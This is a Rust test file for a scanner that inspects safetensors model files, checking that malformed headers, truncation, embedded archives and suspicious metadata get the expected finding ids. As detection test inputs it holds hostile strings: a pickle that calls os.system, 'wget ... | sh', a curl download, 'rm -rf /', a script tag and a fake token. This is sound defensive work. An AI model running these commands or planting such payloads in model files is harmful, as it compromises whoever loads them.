//! safetensors: what is accepted, and every single way to be wrong with the id it gets.

mod common;

use std::fmt::Write as _;

use common::{findings, ids, inspect, inspect_in, judged};
use holdfast_contract::report::Verdict;
use holdfast_formats::Format;
use holdfast_formats::testing::{SafetensorsBuilder, stowaways, weights, zip};

const NONE: [&str; 0] = [];

#[test]
fn an_ordinary_file_passes_without_a_word() {
    let file = SafetensorsBuilder::small().build();
    assert_eq!(ids(&file.bytes), NONE);
    let outcome = inspect(&file.bytes);
    assert_eq!(outcome.format, Format::Safetensors);
    let facts = outcome.facts.unwrap();
    assert_eq!((facts.tensors, facts.parameters), (3, 32 + 24 + 1));
    assert_eq!(facts.tensor_type.as_deref(), Some("F32"));
}

#[test]
fn every_element_type_passes_in_its_size() {
    let types = [
        ("BOOL", 8),
        ("F4", 4),
        ("F6_E2M3", 6),
        ("F6_E3M2", 6),
        ("U8", 8),
        ("I8", 8),
        ("F8_E5M2", 8),
        ("F8_E4M3", 8),
        ("F8_E8M0", 8),
        ("F8_E4M3FNUZ", 8),
        ("F8_E5M2FNUZ", 8),
        ("I16", 16),
        ("U16", 16),
        ("F16", 16),
        ("BF16", 16),
        ("I32", 32),
        ("U32", 32),
        ("F32", 32),
        ("C64", 64),
        ("F64", 64),
        ("I64", 64),
        ("U64", 64),
    ];
    let mut builder = SafetensorsBuilder::new();
    for (dtype, bits) in types {
        builder = builder.tensor(&format!("t.{dtype}"), dtype, &[4, 8], bits * 32 / 8);
    }
    assert_eq!(ids(&builder.build().bytes), NONE);
}

#[test]
fn entries_in_any_order_and_empty_tensors_pass() {
    let file = SafetensorsBuilder::small()
        .tensor("empty", "F32", &[0, 7], 0)
        .edit(|entries| entries.reverse())
        .build();
    assert_eq!(ids(&file.bytes), NONE);
}

#[test]
fn names_with_escapes_pass_and_are_compared_unescaped() {
    let escaped = SafetensorsBuilder::new().tensor("\\u0061\\\"b\\ud83e\\udd99", "U8", &[1], 1);
    assert_eq!(ids(&escaped.build().bytes), NONE);
    let twice = SafetensorsBuilder::new()
        .tensor("a", "U8", &[1], 1)
        .tensor("\\u0061", "U8", &[1], 1);
    assert_eq!(ids(&twice.build().bytes), ["HF-ST-005"]);
}

#[test]
fn facts_come_from_the_metadata_if_it_has_them() {
    let file = SafetensorsBuilder::small()
        .metadata("modelspec.title", "A \\u202eTitle")
        .metadata("modelspec.architecture", "stable-diffusion-v1")
        .build();
    let facts = inspect(&file.bytes).facts.unwrap();
    assert_eq!(facts.name.as_deref(), Some("A Title"));
    assert_eq!(facts.architecture.as_deref(), Some("stable-diffusion-v1"));
}

#[test]
fn every_wrong_header_is_refused_with_its_id() {
    let data = weights(8);
    let entry = |fields: &str| format!("{{\"t\":{{{fields}}}}}");
    let cases = [
        ("HF-ST-003", format!(" {}", entry(r#""dtype":"U8","shape":[8],"data_offsets":[0,8]"#))),
        ("HF-ST-004", entry(r#""dtype":"U8","shape":[8],"data_offsets":[0,8],"#)),
        ("HF-ST-004", entry(r#""dtype":"U8","shape":[8],"data_offsets":[0,8]"#).replace('}', "")),
        ("HF-ST-004", entry(r#""dtype":"U8","shape":[08],"data_offsets":[0,8]"#)),
        ("HF-ST-004", "{\"a\nb\":{}}".to_owned()),
        ("HF-ST-005", r#"{"t":{"dtype":"U8","shape":[8],"data_offsets":[0,8]},"t":{"dtype":"U8","shape":[0],"data_offsets":[8,8]}}"#.to_owned()),
        ("HF-ST-005", entry(r#""dtype":"U8","dtype":"U8","shape":[8],"data_offsets":[0,8]"#)),
        ("HF-ST-005", entry(r#""dtype":"U8","shape":[8],"shape":[8],"data_offsets":[0,8]"#)),
        ("HF-ST-005", entry(r#""dtype":"U8","shape":[8],"data_offsets":[0,8],"data_offsets":[0,8]"#)),
        ("HF-ST-005", format!(r#"{{"__metadata__":{{"a":"1","a":"2"}},{}"#, &entry(r#""dtype":"U8","shape":[8],"data_offsets":[0,8]"#)[1..])),
        ("HF-ST-005", format!(r#"{{"__metadata__":{{}},"__metadata__":{{}},{}"#, &entry(r#""dtype":"U8","shape":[8],"data_offsets":[0,8]"#)[1..])),
        ("HF-ST-006", entry(r#""dtype":"U8","shape":[8],"data_offsets":[0,8],"extra":1"#)),
        ("HF-ST-007", entry(r#""dtype":"U8","shape":[8]"#)),
        ("HF-ST-007", entry(r#""dtype":"U8","data_offsets":[0,8]"#)),
        ("HF-ST-007", entry(r#""shape":[8],"data_offsets":[0,8]"#)),
        ("HF-ST-007", entry(r#""dtype":8,"shape":[8],"data_offsets":[0,8]"#)),
        ("HF-ST-007", entry(r#""dtype":"U8","shape":8,"data_offsets":[0,8]"#)),
        ("HF-ST-007", entry(r#""dtype":"U8","shape":["8"],"data_offsets":[0,8]"#)),
        ("HF-ST-007", entry(r#""dtype":"U8","shape":[-8],"data_offsets":[0,8]"#)),
        ("HF-ST-007", entry(r#""dtype":"U8","shape":[8.0],"data_offsets":[0,8]"#)),
        ("HF-ST-007", entry(r#""dtype":"U8","shape":[8e0],"data_offsets":[0,8]"#)),
        ("HF-ST-007", entry(r#""dtype":"U8","shape":[[8]],"data_offsets":[0,8]"#)),
        ("HF-ST-007", entry(r#""dtype":"U8","shape":[18446744073709551616],"data_offsets":[0,8]"#)),
        ("HF-ST-007", entry(r#""dtype":"U8","shape":[8],"data_offsets":[8]"#)),
        ("HF-ST-007", entry(r#""dtype":"U8","shape":[8],"data_offsets":[0,8,8]"#)),
        ("HF-ST-007", entry(r#""dtype":"U8","shape":[8],"data_offsets":[null,8]"#)),
        ("HF-ST-007", r#"{"t":[]}"#.to_owned()),
        ("HF-ST-007", r#"{"t":null}"#.to_owned()),
        ("HF-ST-008", entry(r#""dtype":"u8","shape":[8],"data_offsets":[0,8]"#)),
        ("HF-ST-008", entry(r#""dtype":"Q4_K","shape":[8],"data_offsets":[0,8]"#)),
        ("HF-ST-009", entry(r#""dtype":"U8","shape":[4294967296,4294967296],"data_offsets":[0,8]"#)),
        ("HF-ST-009", entry(r#""dtype":"U8","shape":[4294967296,4294967296,0],"data_offsets":[0,8]"#)),
        ("HF-ST-009", entry(r#""dtype":"F64","shape":[9223372036854775807],"data_offsets":[0,8]"#)),
        ("HF-ST-010", entry(r#""dtype":"U8","shape":[7],"data_offsets":[0,8]"#)),
        ("HF-ST-010", entry(r#""dtype":"U8","shape":[9],"data_offsets":[0,8]"#)),
        ("HF-ST-011", entry(r#""dtype":"F4","shape":[15],"data_offsets":[0,8]"#)),
        ("HF-ST-012", entry(r#""dtype":"U8","shape":[8],"data_offsets":[8,0]"#)),
        ("HF-ST-013", r#"{"t":{"dtype":"U8","shape":[8],"data_offsets":[0,8]},"u":{"dtype":"U8","shape":[4],"data_offsets":[4,8]}}"#.to_owned()),
        ("HF-ST-014", entry(r#""dtype":"U8","shape":[7],"data_offsets":[1,8]"#)),
        ("HF-ST-014", r#"{"t":{"dtype":"U8","shape":[3],"data_offsets":[0,3]},"u":{"dtype":"U8","shape":[4],"data_offsets":[4,8]}}"#.to_owned()),
        ("HF-ST-015", entry(r#""dtype":"U8","shape":[9],"data_offsets":[0,9]"#)),
        ("HF-ST-015", entry(r#""dtype":"U8","shape":[18446744073709551615],"data_offsets":[0,18446744073709551615]"#)),
        ("HF-ST-016", entry(r#""dtype":"U8","shape":[7],"data_offsets":[0,7]"#)),
        ("HF-ST-016", "{}".to_owned()),
        ("HF-ST-017", r#"{"__metadata__":null}"#.to_owned()),
        ("HF-ST-017", r#"{"__metadata__":{"a":1}}"#.to_owned()),
        ("HF-ST-017", r#"{"__metadata__":{"a":{"b":"c"}}}"#.to_owned()),
        ("HF-ST-018", entry(r#""dtype":"U8","shape":[8],"data_offsets":[0,8]"#) + "\n"),
        ("HF-ST-018", entry(r#""dtype":"U8","shape":[8],"data_offsets":[0,8]"#) + " \0"),
        ("HF-ST-018", entry(r#""dtype":"U8","shape":[8],"data_offsets":[0,8]"#) + "{}"),
    ];
    for (id, header) in cases {
        let file = SafetensorsBuilder::raw(&header, &data);
        assert_eq!(inspect(&file.bytes).format, Format::Safetensors, "{header}");
        let found = ids(&file.bytes);
        // Some declare a size of 2^64 - 1 bytes, whose bits a 64-bit number cannot count.
        let shape = id == "HF-ST-015" && found.iter().any(|found| found == "HF-ST-009");
        assert!(
            shape || found.iter().any(|found| found == id),
            "wanted {id}, found {found:?}: {header}"
        );
        assert_eq!(judged(&file.bytes).0, Verdict::Refuse, "{header}");
    }
}

#[test]
fn the_nearest_ordinary_header_passes() {
    let header = r#"{"t" : {"dtype":"U8",
        "data_offsets":[0,8],  "shape":[2, 4]} }  "#;
    let padded = format!(
        "{header}{}",
        " ".repeat(header.len().next_multiple_of(8) - header.len())
    );
    assert_eq!(ids(&SafetensorsBuilder::raw(padded, &weights(8)).bytes), NONE);
}

#[test]
fn a_header_that_is_not_utf8_is_refused() {
    let mut header = br#"{"t":{"dtype":"U8","shape":[8],"data_offsets":[0,8]}}"#.to_vec();
    header[2] = 0xff;
    let [found, ..] = findings(&SafetensorsBuilder::raw(header, &weights(8)).bytes)
        .try_into()
        .unwrap_or_else(|findings: Vec<_>| -> [_; 2] { panic!("{findings:?}") });
    assert_eq!((found.id.as_str(), found.offset), ("HF-ST-004", Some(9)));
}

#[test]
fn the_length_of_the_header_is_bounded_by_its_file_and_the_library_s_limit() {
    let good = SafetensorsBuilder::small().build();
    let declared = |length: u64| ids(&good.clone().with("length", &length.to_le_bytes()).bytes);
    assert_eq!(declared(100_000_001), ["HF-ST-002"]);
    assert_eq!(declared(1 << 39), ["HF-ST-002"]);
    assert_eq!(declared(100_000_000), ["HF-ST-018"]);
    let cut = good.clone().cut(good.mark("header").end - 20);
    assert_eq!(ids(&cut.bytes), ["HF-ST-001"]);
    assert_eq!(declared(10), ["HF-ST-004", "HF-ST-019"]);
    assert!(declared(0).contains(&"HF-ST-004".to_owned()));
}

#[test]
fn truncation_is_refused_at_every_length() {
    let good = SafetensorsBuilder::small().build();
    for length in 9..good.bytes.len() {
        let file = good.clone().cut(length);
        let wanted = if length < good.mark("header").end {
            "HF-ST-001"
        } else {
            "HF-ST-015"
        };
        assert_eq!(ids(&file.bytes), [wanted], "{length}");
    }
    assert_eq!(ids(&good.and(&[0]).bytes), ["HF-ST-016"]);
}

#[test]
fn oddities_that_harm_nobody_are_noted_and_admitted() {
    let unaligned = SafetensorsBuilder::raw(
        r#"{"t":{"dtype":"U8","shape":[8],"data_offsets":[0,8]}}"#,
        &weights(8),
    );
    let hidden = SafetensorsBuilder::new()
        .tensor("a\\u200bb", "U8", &[1], 1)
        .build();
    let empty = SafetensorsBuilder::raw("{}      ", b"");
    let shifted = SafetensorsBuilder::new()
        .tensor("byte", "U8", &[1], 1)
        .tensor("word", "F32", &[1], 4)
        .build();
    for (id, file) in [
        ("HF-ST-019", unaligned),
        ("HF-ST-021", hidden),
        ("HF-ST-022", empty),
        ("HF-ST-023", shifted),
    ] {
        assert_eq!(ids(&file.bytes), [id]);
        assert_eq!(judged(&file.bytes).0, Verdict::Admit);
    }
}

/// A header's length may begin with any two bytes, so one valid file in some thousands begins like a pickle, a program or an
/// archive.
#[test]
fn files_whose_first_bytes_look_like_something_else_pass() {
    for length in [
        0x0280_u64, 0x0380, 0x0480, 0x0580, 0x5a4d, 0x2123, 0x4b50, 0x8b1f, 0x3e28, 0x635d,
    ] {
        let builder = SafetensorsBuilder::small();
        let header = builder.header();
        let padding = usize::try_from(length).unwrap() - header.len();
        let file = SafetensorsBuilder::raw(header + &" ".repeat(padding), &weights(128 + 48 + 1));
        assert_eq!(file.bytes[..2], length.to_le_bytes()[..2]);
        let wanted: &[&str] = if length.is_multiple_of(8) {
            &[]
        } else {
            &["HF-ST-019"]
        };
        assert_eq!(ids(&file.bytes), wanted, "{length:#x}");
    }
}

#[test]
fn weights_full_of_signatures_pass() {
    let signatures: &[&[u8]] = &[
        b"\x80\x04\x95",
        b"\x80\x02c__builtin__\neval\n.",
        b"\x7fELF",
        b"MZ\x90\0",
        b"PK\x03\x04",
        b"PK\x05\x06",
        b"GGUF",
        b"#!/bin/sh\n",
        b"\xca\xfe\xba\xbe",
        b"\x1f\x8b\x08",
    ];
    let data: Vec<u8> = signatures
        .iter()
        .cycle()
        .take(4000)
        .flat_map(|bytes| bytes.to_vec())
        .collect();
    let header = format!(
        r#"{{"t":{{"dtype":"U8","shape":[{0}],"data_offsets":[0,{0}]}}}}"#,
        data.len()
    );
    let padded = format!(
        "{header}{}",
        " ".repeat(header.len().next_multiple_of(8) - header.len())
    );
    assert_eq!(ids(&SafetensorsBuilder::raw(padded, &data).bytes), NONE);
}

#[test]
fn an_archive_inside_the_weights_is_a_second_face() {
    let archive = zip(&[("archive/data.pkl", b"cos\nsystem\n(S'true'\ntR.")], b"");
    let header = format!(
        r#"{{"t":{{"dtype":"U8","shape":[{0}],"data_offsets":[0,{0}]}}}}"#,
        archive.len()
    );
    let file = SafetensorsBuilder::raw(header, &archive);
    assert_eq!(
        ids(&file.bytes),
        ["HF-SIG-003", "HF-FMT-005", "HF-SIG-002", "HF-ST-019"]
    );
    assert_eq!(judged(&file.bytes).0, Verdict::Refuse);
}

#[test]
fn a_tar_header_over_the_file_is_a_second_face() {
    let mut header = SafetensorsBuilder::new().tensor("t", "U8", &[8], 8).header();
    header.push_str(&" ".repeat(1016 - header.len()));
    let mut file = SafetensorsBuilder::raw(header, &weights(8)).bytes;
    assert_eq!(ids(&file), NONE);
    let sum: u32 = file[..148]
        .iter()
        .chain(&file[156..512])
        .map(|byte| u32::from(*byte))
        .sum();
    file[148..156].copy_from_slice(format!("{:07o} ", sum + 8 * 32).as_bytes());
    // Digits are no padding either.
    assert_eq!(ids(&file), ["HF-FMT-005", "HF-ST-018"]);
}

#[test]
fn more_tensors_than_any_model_are_refused() {
    let mut header = String::from("{");
    for index in 0..=holdfast_formats::safetensors::MAX_TENSORS {
        write!(
            header,
            r#""{index}":{{"dtype":"U8","shape":[0],"data_offsets":[0,0]}},"#
        )
        .unwrap();
    }
    header.pop();
    header.push('}');
    let file = SafetensorsBuilder::raw(&header, b"");
    let found = inspect_in(&file.bytes, 1 << 20).findings.into_parts().0;
    assert!(found.iter().any(|finding| finding.id == "HF-ST-020"), "{found:?}");
}

#[test]
fn programs_in_the_metadata_are_refused() {
    let with = |value: &str| {
        let built = SafetensorsBuilder::new()
            .metadata("note", value)
            .tensor("t", "U8", &[8], 8);
        ids(&built.build().bytes)
    };
    let padded = format!("{} OS.System('x')", "word ".repeat(9000));
    for value in [
        "import os; os.system('x')",
        "<SCRIPT>alert(1)</script>",
        "wget http://x/y | sh",
        "curl -sL https://x.example/y -o z",
        r#"{\"prompt\": \"a\\neval(b)\"}"#,
        &padded,
    ] {
        assert_eq!(with(value), ["HF-ST-024"], "{value}");
    }
    for value in [
        "https://example.com/model",
        "a model for the shell",
        "evaluation (all)",
        "{\"lr\": 0.1}",
    ] {
        assert!(!with(value).contains(&"HF-ST-024".to_owned()), "{value}");
    }
    for value in [
        r#"{\"10_a\": {\"medieval(style)\": 12, \"hair curl - side\": 3}}"#,
        "text retrieval(x), get it with wget https://example.com/model",
    ] {
        assert_eq!(with(value), Vec::<String>::new(), "{value}");
    }
}

#[test]
fn metadata_is_looked_at_as_other_texts_are() {
    let with = |key: &str, value: &str| {
        let built = SafetensorsBuilder::new()
            .metadata(key, value)
            .tensor("t", "U8", &[8], 8);
        ids(&built.build().bytes)
    };
    let token = format!("hf_{}", "a".repeat(34));
    for (text, id) in [
        ("a\u{202e}b", "HF-DOC-005"),
        ("a\\u202eb", "HF-DOC-005"),
        ("a\\udb40\\udc41", "HF-DOC-005"),
        ("\u{e0041}\u{e0042}", "HF-DOC-005"),
        ("a\u{200b}b", "HF-DOC-011"),
        (&token, "HF-SEC-001"),
        (&token.replace('_', "\\u005f"), "HF-SEC-001"),
        ("x = eval('1')", "HF-ST-024"),
    ] {
        assert!(
            with("note", text).contains(&id.to_owned()),
            "{text}: {:?}",
            with("note", text)
        );
        assert!(
            with(text, "x").contains(&id.to_owned()),
            "{text}: {:?}",
            with(text, "x")
        );
    }
    // Programs whose bytes are escaped: the loader has them unescaped.
    let programs: Vec<_> = stowaways()
        .into_iter()
        .filter(|(_, id, bytes)| *id == "HF-SIG-001" && bytes.is_ascii())
        .collect();
    assert!(!programs.is_empty());
    for (name, id, bytes) in programs {
        let escaped = bytes
            .iter()
            .fold(String::new(), |text, byte| text + &format!("\\u{byte:04x}"));
        assert!(with("note", &escaped).contains(&id.to_owned()), "{name}");
    }
    let long = |count: usize| "word ".repeat(count);
    assert_eq!(with("note", &long(800 << 10)), NONE);
    assert_eq!(with("note", &long(840 << 10)), ["HF-ST-025"]);
    assert_eq!(with(&long(800), "x"), NONE);
    assert_eq!(with(&long(900), "x"), ["HF-ST-025"]);
    // What follows a long text is found all the same.
    let late = format!("{} rm -rf /", long(800 << 10));
    assert_eq!(with("note", &late), ["HF-ST-024"]);
    // Nobody has to say which library wrote the file.
    assert_eq!(with("format", "pt"), NONE);
    assert_eq!(with("format", "another"), NONE);
}
